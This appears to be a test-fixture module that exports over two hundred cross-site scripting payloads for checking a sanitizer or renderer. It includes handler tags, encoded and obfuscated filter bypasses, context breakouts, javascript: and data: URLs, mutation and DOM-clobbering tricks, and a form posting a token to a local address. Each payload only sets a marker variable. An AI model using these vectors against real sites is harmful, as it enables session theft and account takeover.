/** Set by every script below that is run. */
export const MARK = 'squadTaken';
const RUN = `window.${MARK}=1`;
const CLASS = 'class=hostile';
const encoded = (text: string) => [...text].map(letter => `&#${letter.charCodeAt(0)};`).join('');
const inHex = (text: string) => [...text].map(letter => `&#x${letter.charCodeAt(0).toString(16)}`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** Elements that run a handler without anybody touching them, or once somebody does. */
const HANDLERS = [
  ...['img src=x onerror', 'img src=1 onload', 'image src=x onerror', 'audio src=x onerror'],
  ...[
    'video src=x onerror',
    'video poster=x onloadstart',
    'source src=x onerror',
    'input type=image src=x onerror',
  ],
  ...[
    'body onload',
    'body onpageshow',
    'body onhashchange',
    'body onscroll',
    'body onresize',
    'frameset onload',
  ],
  ...['svg onload', 'svg/onload', 'svg><animate onbegin', 'svg><set onbegin', 'svg><image href=x onerror'],
  ...['svg><foreignObject><body onload', 'math><mi onclick', 'iframe onload', 'iframe srcdoc=x onload'],
  ...['object data=x onerror', 'embed src=x onload', 'link rel=stylesheet href=x onerror', 'style onload'],
  ...[
    'script src=x onerror',
    'details open ontoggle',
    'marquee onstart',
    'marquee onfinish',
    'select autofocus onfocus',
  ],
  ...[
    'input autofocus onfocus',
    'textarea autofocus onfocus',
    'keygen autofocus onfocus',
    'button autofocus onfocus',
  ],
  ...[
    'a onmouseover',
    'a tabindex=1 autofocus onfocusin',
    'div onmouseenter',
    'div onpointerover',
    'div onwheel',
  ],
  ...[
    'div contenteditable autofocus onfocus',
    'div style=animation-name:x onanimationstart',
    'div ontransitionend',
  ],
  ...[
    'form onsubmit',
    'form onformdata',
    'dialog open onclose',
    'dialog oncancel',
    'xss onclick',
    'p onbeforecopy',
  ],
  ...['track default src=x onerror', 'meter onclick', 'progress onclick', 'blink onclick', 'bgsound onload'],
].map(start => `<${start}="${RUN}" ${CLASS}>`);

/** The same handler as a parser may read it and a filter may not. */
const SPELLINGS = [
  `<ScRiPt ${CLASS}>${RUN}</sCrIpT>`,
  `<script ${CLASS}>${RUN}</script >`,
  `<script ${CLASS}>${RUN}//`,
  `<script\t${CLASS}>${RUN}</script\t>`,
  `<script\f${CLASS}>${RUN}</script>`,
  `<script/x ${CLASS}>${RUN}</script>`,
  `<script type=module ${CLASS}>${RUN}</script>`,
  `<script type=text/vbscript ${CLASS}>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}" ${CLASS}></script>`,
  `<script src=//127.0.0.1:9/x.js ${CLASS}></script>`,
  `<scr<script>ipt ${CLASS}>${RUN}</scr</script>ipt>`,
  `<<script ${CLASS}>${RUN}//<</script>`,
  `<script ${CLASS}>${encoded(RUN)}</script>`,
  `<svg><script ${CLASS}>${encoded(RUN)}</script></svg>`,
  `<svg><script ${CLASS} href="data:text/javascript,${RUN}" /></svg>`,
  `<svg><script xlink:href="data:text/javascript,${RUN}" ${CLASS}></script></svg>`,
  `<img src=x onerror=${encoded(RUN)} ${CLASS}>`,
  `<img src=x onerror=${inHex(RUN)} ${CLASS}>`,
  `<img src=x onerror=\`${RUN}\` ${CLASS}>`,
  `<img src=x onerror='${RUN}' ${CLASS}`,
  `<img src=x onerror\n=\n"${RUN}" ${CLASS}>`.replaceAll('\n', '\t'),
  `<img """><script ${CLASS}>${RUN}</script>">`,
  `<img src="x\`\`onerror=${RUN}" ${CLASS}>`,
  `<img src=x:x onerror\u000b="${RUN}" ${CLASS}>`,
  `<img/src/onerror="${RUN}" ${CLASS}>`,
  `<img src=x OnErRoR="${RUN}" ${CLASS}>`,
  `<img src=x onerror="eval(atob('${base64(RUN)}'))" ${CLASS}>`,
  `<img src=x onerror="Function('${RUN}')()" ${CLASS}>`,
  `<img src=x onerror="setTimeout('${RUN}')" ${CLASS}>`,
  `<img src=x onerror="top['win'+'dow']['${MARK}']=1" ${CLASS}>`,
  `<img src=x onerror="import('data:text/javascript,${RUN}')" ${CLASS}>`,
  `\uff1cimg src=x onerror="${RUN}" ${CLASS}\uff1e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `&lt;img src=x onerror="${RUN}" ${CLASS}&gt;`,
  `&amp;lt;img src=x onerror="${RUN}" ${CLASS}&amp;gt;`,
  `+ADw-img src=x onerror=${RUN} ${CLASS}+AD4-`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml" ${CLASS}>${RUN}</x:script>`,
];

/** Text that leaves what it stands in first. */
const BREAKOUTS = [
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '"/>',
    '-->',
    ']]>',
    '*/',
    '</title>',
    '</textarea>',
    '</style>',
    '</script>',
  ],
  ...[
    '</noscript>',
    '</template>',
    '</xmp>',
    '</iframe>',
    '</svg>',
    '</math>',
    '</select>',
    '</option>',
    '</pre>',
  ],
  ...[
    '</code>',
    '</a>',
    '</td></tr></table>',
    '{{',
    '${',
    '<%=',
    '\\"',
    "\\'",
    '\\x3c/script\\x3e',
    '&quot;>',
  ],
  ...['<!--', '<![CDATA[', '<?xml version="1.0"?>', '<!DOCTYPE x>', '<noscript><p title="</noscript>'],
].map(start => `${start}<img src=x onerror="${RUN}" ${CLASS}>`);

/** Addresses that are scripts, where an address can stand. */
const ADDRESSES = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java&#10;script:', 'java&Tab;script:'],
  ...['javascript&colon;', '\u0001javascript:', 'vbscript:', 'livescript:', 'view-source:javascript:'],
  ...[
    'javascript://%0a',
    'javascript:/*--></title>*/',
    'feed:javascript:',
    'jar:javascript:',
    'blob:javascript:',
  ],
].flatMap(scheme => [`<a href="${scheme}${RUN}" ${CLASS}>here</a>`, `[here](${scheme}${RUN})`]);
const PLACES = [
  ...[
    'iframe src',
    'form><button formaction',
    'object data',
    'embed src',
    'base href',
    'area href',
    'body background',
  ],
  ...[
    'svg><a xlink:href',
    'svg><use href',
    'math><mi xlink:href',
    'link rel=import href',
    'video src',
    'img srcset',
  ],
  ...[
    'input type=image formaction',
    'isindex action',
    'frame src',
    'table background',
    'a ping',
    'img lowsrc',
  ],
].flatMap(start => [
  `<${start}="javascript:${RUN}" ${CLASS}>`,
  `<${start}="data:text/html;base64,${base64(`<script>${RUN}</script>`)}" ${CLASS}>`,
]);

/** Without a script at all: what a page would show, load or become. */
const OTHERS = [
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}" ${CLASS}>`,
  `<meta http-equiv=Set-Cookie content="taken=1" ${CLASS}>`,
  `<meta http-equiv=Content-Security-Policy content="script-src *" ${CLASS}>`,
  `<style ${CLASS}>@import 'http://127.0.0.1:9/x.css';</style>`,
  `<style ${CLASS}>*{background:url(http://127.0.0.1:9/x)}</style>`,
  `<div style="background:url(javascript:${RUN})" ${CLASS}>`,
  `<div style="width:expression(${RUN})" ${CLASS}>`,
  `<link rel=stylesheet href=http://127.0.0.1:9/x.css ${CLASS}>`,
  `<form action=http://127.0.0.1:9/ ${CLASS}><input name=token autofocus>`,
  `<portal src=http://127.0.0.1:9/ ${CLASS}>`,
  `<template shadowrootmode=open ${CLASS}><img src=x onerror="${RUN}"></template>`,
  `<svg><style><img src=x onerror="${RUN}" ${CLASS}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}" ${CLASS}>`,
  `<form id=test ${CLASS}><input name=attributes><input name=innerHTML>`,
  `<a id=location href=http://127.0.0.1:9/ ${CLASS}></a>`,
  `![x](x"onerror="${RUN})`,
  `[x]: javascript:${RUN}`,
  `<http://127.0.0.1:9/" onmouseover="${RUN}">`,
  `__proto__[innerHTML]=<img/src/onerror=${RUN}>`,
  `constructor.constructor('${RUN}')()`,
  `{{constructor.constructor('${RUN}')()}}`,
];

/** More than two hundred texts that become a script, or an element, where text is taken for markup. One line each. */
export const MARKUP = [...HANDLERS, ...SPELLINGS, ...BREAKOUTS, ...ADDRESSES, ...PLACES, ...OTHERS];
